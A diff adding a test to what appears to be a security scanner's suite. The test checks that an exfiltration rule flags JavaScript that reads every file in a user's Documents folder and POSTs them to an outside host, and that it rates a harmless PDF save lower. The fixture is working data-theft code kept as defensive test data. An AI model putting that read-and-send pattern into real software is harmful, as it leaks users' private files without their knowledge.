@@ -147,3 +147,25 @@ def test_files_of_a_walked_desktop_zipped_into_a_buffer_and_sent_are_reported(sc
 
     assert [(f.line_number, f.severity) for f in findings] == [(8, Severity.HIGH)]
     assert "~/Desktop collected" in findings[0].description
+
+
+def test_a_documents_folder_is_high_only_where_folders_are_listed_and_data_sent(scan):
+    listed = (
+        "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+        "const dir = path.join(os.homedir(), 'Documents');\n"
+        "const notes = fs.readdirSync(dir).map((f) => fs.readFileSync(path.join(dir, f), 'utf8'));\n"
+        "fetch('https://notes.syncly.app/u', {method: 'POST', body: JSON.stringify(notes)});\n"
+    )
+    saved = (
+        "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+        "const dir = path.join(os.homedir(), 'Documents');\n"
+        "const pdf = await (await fetch('https://api.pdfmaker.app/render')).arrayBuffer();\n"
+        "fs.writeFileSync(path.join(dir, 'report.pdf'), Buffer.from(pdf));\n"
+    )
+
+    def severities(code: str) -> list[tuple[int | None, Severity]]:
+        findings = of_rule(scan({"scripts/n.js": code}, "signatures"), "exfil.user-folder-send")
+        return [(f.line_number, f.severity) for f in findings]
+
+    assert severities(listed) == [(2, Severity.HIGH)]
+    assert severities(saved) == [(2, Severity.LOW)]
